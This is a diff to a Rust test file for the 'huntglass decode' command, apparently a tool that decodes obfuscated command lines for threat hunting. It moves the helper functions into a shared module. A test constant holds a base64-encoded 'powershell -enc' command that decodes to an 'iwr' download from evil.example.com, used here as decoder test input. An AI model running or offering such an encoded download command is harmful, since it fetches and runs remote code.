@@ -1,67 +1,36 @@
 //! Runs `huntglass decode` on text lines, whole text, stdin, CSV, JSON-lines and Arrow input;
 //! output formats; progress on big inputs; errors.
 
-use std::io::Write;
 use std::path::PathBuf;
-use std::process::{Command, Output, Stdio};
+use std::process::Output;
 use std::sync::Arc;
 
 use arrow_array::{ArrayRef, RecordBatch, StringArray};
 use arrow_schema::{DataType, Field, Schema};
 use serde_json::Value;
 
-const BIN: &str = env!("CARGO_BIN_EXE_huntglass");
+mod common;
 
 /// `powershell -enc` of the UTF-16LE text "iwr http://evil.example.com/a.ps1".
 const ENCODED: &str = "powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBhAC4AcABzADEA";
 const DECODED: &str = "iwr http://evil.example.com/a.ps1";
 
+const SUBCOMMAND: &str = "decode";
+
 fn temp_dir(name: &str) -> PathBuf {
-    let dir = std::env::temp_dir().join(format!("hg-cli-decode-{}-{name}", std::process::id()));
-    let _ = std::fs::remove_dir_all(&dir);
-    std::fs::create_dir_all(&dir).expect("temp dir");
-    dir
+    common::temp_dir(SUBCOMMAND, name)
 }
 
 fn run(args: &[&str], stdin: Option<&str>) -> Output {
-    let mut child = Command::new(BIN)
-        .arg("decode")
-        .args(args)
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
-        .spawn()
-        .expect("runs");
-    {
-        let mut input = child.stdin.take().expect("stdin");
-        if let Some(text) = stdin {
-            input.write_all(text.as_bytes()).expect("writes stdin");
-        }
-    }
-    child.wait_with_output().expect("finishes")
+    common::run(SUBCOMMAND, args, stdin)
 }
 
 fn ok_jsonl(args: &[&str], stdin: Option<&str>) -> Vec<Value> {
-    let out = run(args, stdin);
-    assert!(
-        out.status.success(),
-        "huntglass decode {args:?} failed: {}",
-        String::from_utf8_lossy(&out.stderr)
-    );
-    String::from_utf8(out.stdout)
-        .expect("utf-8")
-        .lines()
-        .map(|l| serde_json::from_str(l).expect("a JSON object per line"))
-        .collect()
+    common::ok_jsonl(SUBCOMMAND, args, stdin)
 }
 
 fn failure(args: &[&str], stdin: Option<&str>) -> String {
-    let out = run(args, stdin);
-    assert!(
-        !out.status.success(),
-        "huntglass decode {args:?} should fail"
-    );
-    String::from_utf8(out.stderr).expect("utf-8")
+    common::failure(SUBCOMMAND, args, stdin)
 }
 
 #[test]
